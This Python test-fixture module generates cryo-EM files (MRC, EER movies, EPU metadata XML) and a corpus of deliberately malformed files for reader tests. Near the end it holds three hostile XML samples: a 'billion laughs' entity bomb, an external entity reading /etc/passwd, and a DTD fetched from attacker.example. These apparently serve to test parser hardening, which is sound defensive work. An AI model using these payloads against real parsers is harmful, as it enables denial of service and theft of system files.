"""Files in the formats the readers know, made on the fly (mrcfile, tifffile, a few hand-made
bytes): MRC with FEI extended headers, EER movies, a corpus of bad files, and a byte source
that counts what a reader asks for."""

from __future__ import annotations

import bz2
import gzip
import io
import struct
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import mrcfile
import numpy as np
import tifffile
from mrcfile.dtypes import get_ext_header_dtype


@dataclass
class Stats:
    requests: int = 0
    bytes_read: int = 0


class CountingSource:
    """Like ``ObjectSource``: counts requests and bytes. Bytes past ``prefix`` read as zeros,
    so a header can pretend to belong to a file of many gigabytes without allocating it."""

    def __init__(self, prefix: bytes, size: int | None = None):
        self.prefix = prefix
        self.size = len(prefix) if size is None else size
        self.stats = Stats()
        self.reads: list[tuple[int, int]] = []

    def read_at(self, offset: int, length: int) -> bytes:
        length = max(0, min(length, self.size - offset))
        if length == 0:
            return b""
        self.stats.requests += 1
        self.reads.append((offset, length))
        data = self.prefix[offset : offset + length]
        data += bytes(length - len(data))
        self.stats.bytes_read += len(data)
        return data


def fei_records(exttyp: bytes, count: int, **fields: object) -> np.ndarray:
    """``count`` FEI records (little-endian) with ``fields`` set in the first."""
    dtype = get_ext_header_dtype(exttyp, "<")
    records = np.zeros(count, dtype=dtype)
    records["Metadata size"] = dtype.itemsize
    records["Metadata version"] = 2 if exttyp == b"FEI2" else 0
    for name, value in fields.items():
        records[0][name] = value
    return records


def mrc_bytes(
    data: np.ndarray,
    *,
    voxel_size: float | tuple[float, float, float] | None = None,
    exttyp: bytes | None = None,
    extended: np.ndarray | bytes | None = None,
    stack: bool = False,
    origin: tuple[float, float, float] | None = None,
    label: str | None = None,
    header: dict[str, object] | None = None,
    tmp: Path,
) -> bytes:
    path = tmp / f"made-{len(list(tmp.iterdir()))}.mrc"
    with mrcfile.new(str(path), overwrite=True) as mrc:
        mrc.set_data(data)
        if stack:
            mrc.set_image_stack()
        if voxel_size is not None:
            mrc.voxel_size = voxel_size
        if extended is not None:
            array = np.frombuffer(extended, dtype="V1") if isinstance(extended, bytes) else extended
            mrc.set_extended_header(array)
        if exttyp is not None:
            mrc.header.exttyp = exttyp
        if origin is not None:
            mrc.header.origin = origin
        if label:
            mrc.add_label(label)
        for key, value in (header or {}).items():
            mrc.header[key] = value
    return path.read_bytes()


def patch_header(raw: bytes, **words: int) -> bytes:
    """Overwrite 32-bit little-endian header words by name (no validation: for bad files)."""
    offsets = {"nx": 0, "ny": 4, "nz": 8, "mode": 12, "mx": 28, "ispg": 88, "nsymbt": 92}
    out = bytearray(raw)
    for name, value in words.items():
        struct.pack_into("<i", out, offsets[name], value)
    return bytes(out)


def eer_encode(
    pixels: Sequence[int], total: int, rle_bits: int = 7, horizontal: int = 2, vertical: int = 2
) -> bytes:
    """EER run-length coding, LSB first: a run of ``rle_bits`` (all ones = keep counting),
    then the sub-pixel bits of the event; a final run to the end of the frame, and an even
    number of bytes (both required by imagecodecs' decoder)."""
    longest = (1 << rle_bits) - 1
    accumulator, filled, out = 0, 0, bytearray()

    def put(value: int, bits: int) -> None:
        nonlocal accumulator, filled
        accumulator |= value << filled
        filled += bits
        while filled >= 8:
            out.append(accumulator & 0xFF)
            accumulator >>= 8
            filled -= 8

    def run(gap: int) -> None:
        while gap >= longest:
            put(longest, rle_bits)
            gap -= longest
        put(gap, rle_bits)

    position = 0
    for pixel in pixels:
        run(pixel - position)
        put(1, horizontal)
        put(0, vertical)
        position = pixel + 1
    run(total - position)
    if filled:
        out.append(accumulator & 0xFF)
    if len(out) % 2:
        out.append(0)
    return bytes(out)


def eer_xml(items: dict[str, tuple[object, str | None]]) -> bytes:
    parts = []
    for name, (value, unit) in items.items():
        unit_attr = f' unit="{unit}"' if unit else ""
        parts.append(f'<item name="{name}"{unit_attr}>{value}</item>')
    return ("<metadata>" + "".join(parts) + "</metadata>").encode()


DEFAULT_EER_ITEMS: dict[str, tuple[object, str | None]] = {
    "commercialName": ("Falcon 4i", None),
    "exposureTime": (4.5, "s"),
    "meanDoseRate": (5.2, "e/pixel/s"),
    "numberOfFrames": (None, None),  # filled with the real count
    "sensorImageHeight": (None, "pixels"),
    "sensorImageWidth": (None, "pixels"),
    "sensorPixelSize.height": (7.5e-11, "m"),
    "sensorPixelSize.width": (7.5e-11, "m"),
    "serialNumber": ("FAL-12345", None),
    "timestamp": ("2025-03-14T17:40:48.482908+01:00", None),
    "totalDose": (23.4, "e/pixel"),
}


def frame_events(index: int, width: int, height: int) -> list[int]:
    """A few deterministic events per frame; frame 0 has a run longer than one code."""
    total = width * height
    step = 37 + index % 11
    return [p for p in range(200 + index % 5, total, step)]


def eer_bytes(
    *,
    frames: int,
    width: int = 64,
    height: int = 64,
    compression: int = 65001,
    items: dict[str, tuple[object, str | None]] | None = None,
    metadata: bool = True,
    integrated: bool = False,
    bits: tuple[int, int, int] = (7, 2, 2),
    patch_all: bool = True,
) -> bytes:
    """A bilevel BigTIFF written by tifffile whose strips hold EER-coded events, with the
    Compression tag (and strip byte counts) patched afterwards, as EER writers produce."""
    strips = [
        eer_encode(frame_events(i, width, height), width * height, *bits) for i in range(frames)
    ]
    capacity = width * height // 8
    assert max(len(s) for s in strips) <= capacity, "too many events for this frame size"
    planes = np.stack(
        [
            np.unpackbits(np.frombuffer(s.ljust(capacity, b"\0"), np.uint8)).reshape(height, width)
            for s in strips
        ]
    ).astype(bool)
    merged = dict(DEFAULT_EER_ITEMS if items is None else items)
    for key, value in (
        ("numberOfFrames", frames),
        ("sensorImageHeight", height),
        ("sensorImageWidth", width),
    ):
        if key in merged and merged[key][0] is None:
            merged[key] = (value, merged[key][1])
    xml = eer_xml({k: v for k, v in merged.items() if v[0] is not None})
    tags = [(65001, 7, len(xml), xml, True)] if metadata else []
    if compression == 65002:
        tags += [
            (65007, 3, 1, bits[0], True),
            (65008, 3, 1, bits[1], True),
            (65009, 3, 1, bits[2], True),
        ]
    buffer = io.BytesIO()
    with tifffile.TiffWriter(buffer, bigtiff=True) as writer:
        if integrated:
            writer.write(np.ones((height, width), np.uint16), extratags=tags, metadata=None)
            tags = []
        writer.write(planes, photometric="minisblack", extratags=tags, metadata=None)
    return _patch_eer(buffer.getvalue(), strips, compression, integrated, patch_all)


def _patch_eer(
    raw: bytes, strips: list[bytes], compression: int, integrated: bool, patch_all: bool
) -> bytes:
    out = bytearray(raw)
    with tifffile.TiffFile(io.BytesIO(raw)) as tif:
        pages = tif.pages[1:] if integrated else tif.pages
        for index, page in enumerate(pages):
            if index and not patch_all:
                break
            _patch_tag(out, tif.byteorder, page.tags[259], compression)
            _patch_tag(out, tif.byteorder, page.tags[279], len(strips[index]))
    return bytes(out)


def _patch_tag(out: bytearray, byteorder: str, tag: tifffile.TiffTag, value: int) -> None:
    assert tag.count == 1
    fmt = {3: "H", 4: "I", 16: "Q"}[int(tag.dtype)]
    struct.pack_into(byteorder + fmt, out, tag.valueoffset, value)


def _tiff_chain(next_offsets: Sequence[int], ifd_offsets: Sequence[int], size: int = 256) -> bytes:
    """A classic little-endian TIFF with 1x1 uint8 pages whose IFD chain we choose."""
    out = bytearray(size)
    out[:8] = b"II*\0" + struct.pack("<I", ifd_offsets[0])
    for at, next_offset in zip(ifd_offsets, next_offsets, strict=True):
        entries = [(256, 3, 1, 1), (257, 3, 1, 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
                   (273, 4, 1, 4), (277, 3, 1, 1), (278, 3, 1, 1), (279, 4, 1, 1)]  # fmt: skip
        struct.pack_into("<H", out, at, len(entries))
        for index, (tag, type_, count, value) in enumerate(entries):
            fmt = "<HHIH2x" if type_ == 3 else "<HHII"
            struct.pack_into(fmt, out, at + 2 + 12 * index, tag, type_, count, value)
        struct.pack_into("<I", out, at + 2 + 12 * len(entries), next_offset)
    return bytes(out)


def bad_files(tmp: Path) -> dict[str, tuple[str, bytes, str, str]]:
    """name -> (file name, bytes, expected format, expected error substring)."""
    rng = np.random.default_rng(7)
    volume = mrc_bytes(rng.random((4, 64, 64), dtype=np.float32), tmp=tmp)
    small = mrc_bytes(np.zeros((8, 8), np.float32), tmp=tmp)
    eer_plain = eer_bytes(frames=3, metadata=False)
    eer_broken_xml = eer_bytes(frames=2, items={})
    broken = eer_broken_xml.replace(
        b"<metadata></metadata>", b"<metadata><item name="
    )  # same length
    big_loop = bytearray(_tiff_chain([8], [8], size=2 * 1024 * 1024))
    return {
        "empty": ("empty.mrc", b"", "other", "empty file (0 bytes)"),
        "truncated_mrc": ("cut.mrc", volume[: len(volume) - 5000], "mrc", "truncated: expected 66560 bytes, found 61560"),
        "header_only_mrc": ("head.mrc", volume[:1024], "mrc", "truncated: expected 66560 bytes, found 1024"),
        "garbage_named_mrc": ("noise.mrc", rng.bytes(8192), "other", "named like an MRC file (.mrc) but not one"),
        "short_garbage_mrc": ("tiny.mrc", rng.bytes(300), "other", "too short for an MRC header"),
        "negative_dimensions": ("neg.mrc", patch_header(small, nx=-5), "mrc", "invalid dimensions nx=-5"),
        "huge_dimensions": ("huge.mrc", patch_header(small, nx=2**31 - 1, ny=2**31 - 1, nz=2**31 - 1), "mrc", "implausible dimensions"),
        "overflowing_dimensions": ("over.mrc", patch_header(small, nx=65536, ny=65536, nz=65536), "mrc", "truncated: expected 1125899906843648 bytes"),
        "unknown_mode": ("mode.mrc", patch_header(small, mode=17), "mrc", "unsupported MRC mode 17"),
        "nsymbt_beyond_file": ("ext.mrc", patch_header(small, nsymbt=10**9), "mrc", "extended header size nsymbt=1000000000 is larger than the file"),
        "negative_nsymbt": ("ext2.mrc", patch_header(small, nsymbt=-4), "mrc", "negative extended header size nsymbt=-4"),
        "tiff_self_loop": ("loop.tif", _tiff_chain([8], [8]), "tiff", "loops back to offset 8"),
        "tiff_two_page_loop": ("loop2.tif", _tiff_chain([128, 8], [8, 128]), "tiff", "loops back to offset 8"),
        "tiff_big_self_loop": ("loop3.tif", bytes(big_loop), "tiff", "loops back to offset 8"),
        "tiff_ifd_beyond_eof": ("far.tif", b"II*\0" + struct.pack("<I", 10**6) + bytes(100), "tiff", "outside the file"),
        "tiff_absurd_entry_count": ("many.tif", b"II*\0\x08\0\0\0\x60\xea" + bytes(100), "tiff", "claims 60000 entries"),
        "tiff_named_text": ("note.tif", b"just some text\n", "other", "named like a TIFF file (.tif)"),
        "eer_without_metadata": ("movie.eer", eer_plain, "eer", "EER file has no metadata tag 65001"),
        "eer_bad_xml": ("bad.eer", broken, "eer", "EER metadata tag 65001 is not valid XML"),
        "gzip_truncated_map": ("cut.map.gz", gzip.compress(volume, mtime=0)[:-400], "mrc.gz", "size mismatch"),
        "gzip_corrupt": ("bad.map.gz", b"\x1f\x8b\x08\x00" + rng.bytes(2000), "other", "gzip-compressed, but the gzip stream is corrupt"),
        "bzip2_not_mrc": ("text.mrc.bz2", bz2.compress(b"hello " * 400), "other", "named like a compressed MRC file but not one"),
    }  # fmt: skip


BAD_FILE_CASES = [
    "empty", "truncated_mrc", "header_only_mrc", "garbage_named_mrc", "short_garbage_mrc",
    "negative_dimensions", "huge_dimensions", "overflowing_dimensions", "unknown_mode",
    "nsymbt_beyond_file", "negative_nsymbt", "tiff_self_loop", "tiff_two_page_loop",
    "tiff_big_self_loop", "tiff_ifd_beyond_eof", "tiff_absurd_entry_count", "tiff_named_text",
    "eer_without_metadata", "eer_bad_xml", "gzip_truncated_map", "gzip_corrupt", "bzip2_not_mrc",
]  # fmt: skip


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<MicroscopeImage><name>&lol9;</name></MicroscopeImage>"""


EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE MicroscopeImage [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<MicroscopeImage><name>&secret;</name></MicroscopeImage>"""


EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE MicroscopeImage SYSTEM "http://attacker.example/evil.dtd">
<MicroscopeImage><name>x</name></MicroscopeImage>"""


# -- EPU per-movie XML ---------------------------------------------------------------------------

XSD = "http://www.w3.org/2001/XMLSchema"
ARRAYS = "http://schemas.microsoft.com/2003/10/Serialization/Arrays"
FEI_TYPES = "http://schemas.datacontract.org/2004/07/Fei.Types"


def custom_entry(key: str, value: str, xsd_type: str = "double") -> str:
    return (
        f'<a:KeyValueOfstringanyType><a:Key>{key}</a:Key><a:Value i:type="b:{xsd_type}" '
        f'xmlns:b="{XSD}">{value}</a:Value></a:KeyValueOfstringanyType>'
    )


def epu_xml(
    *,
    voltage: str = "300000",
    defocus: str = "-2.5E-06",
    dose: str = "4E+21",
    pixel: str = "1.06E-10",
    when: str = "2024-09-01T06:01:10.0039293+02:00",
    beam_shift: tuple[str, str] = ("0.125", "-0.5"),
    extra_custom: str = "",
) -> bytes:
    """A small EPU per-movie XML with the real file's namespaces and DataContract layout."""
    custom = (
        custom_entry("Dose", dose)
        + custom_entry("DoseOnCamera", "3.5")
        + custom_entry("Aperture[C2].Name", "50", "string")
        + custom_entry("Aperture[OBJ].Name", "None", "string")
        + custom_entry("PhasePlateUsed", "true", "boolean")
        + custom_entry("DetectorCommercialName", "Falcon 4i", "string")
        + custom_entry("AppliedDefocus", "-2E-06")
        + extra_custom
    )
    return f"""<?xml version="1.0" encoding="utf-8"?>
<MicroscopeImage xmlns="http://schemas.datacontract.org/2004/07/Fei.SharedObjects"
    xmlns:i="http://www.w3.org/2001/XMLSchema-instance">
  <name>Empty</name>
  <CustomData xmlns:a="{ARRAYS}">{custom}</CustomData>
  <IntensityScale i:nil="true"/>
  <SpatialScale><pixelSize>
    <x><numericValue>{pixel}</numericValue></x><y><numericValue>{pixel}</numericValue></y>
  </pixelSize></SpatialScale>
  <microscopeData>
    <acquisition>
      <acquisitionDateTime>{when}</acquisitionDateTime>
      <camera>
        <Binning xmlns:a="http://schemas.datacontract.org/2004/07/System.Drawing">
          <a:x>2</a:x><a:y>2</a:y></Binning>
        <ExposureTime>1.5</ExposureTime>
        <Name>BM-Falcon</Name>
        <ReadoutArea xmlns:a="http://schemas.datacontract.org/2004/07/System.Drawing">
          <a:height>4092</a:height><a:width>5760</a:width></ReadoutArea>
      </camera>
    </acquisition>
    <core><ApplicationSoftware>EPU</ApplicationSoftware>
      <ApplicationSoftwareVersion>3.8.1</ApplicationSoftwareVersion></core>
    <gun><AccelerationVoltage>{voltage}</AccelerationVoltage>
      <Sourcetype>FieldEmission</Sourcetype></gun>
    <instrument><InstrumentModel>Krios G4</InstrumentModel></instrument>
    <optics>
      <BeamShift xmlns:a="{FEI_TYPES}"><a:_x>{beam_shift[0]}</a:_x><a:_y>{beam_shift[1]}</a:_y>
      </BeamShift>
      <BeamTilt xmlns:a="{FEI_TYPES}"><a:_x>0.25</a:_x><a:_y>-0.75</a:_y></BeamTilt>
      <ColumnOperatingTemSubMode>BrightField</ColumnOperatingTemSubMode>
      <Defocus>{defocus}</Defocus>
      <EnergyFilter><EnergySelectionSlitInserted>false</EnergySelectionSlitInserted>
        <EnergySelectionSlitWidth>20</EnergySelectionSlitWidth></EnergyFilter>
      <IlluminationMode>Parallel</IlluminationMode>
      <ImageShift xmlns:a="{FEI_TYPES}"><a:_x>1</a:_x><a:_y>2</a:_y></ImageShift>
      <TemMagnification><NominalMagnification>130000</NominalMagnification></TemMagnification>
    </optics>
  </microscopeData>
</MicroscopeImage>""".encode()
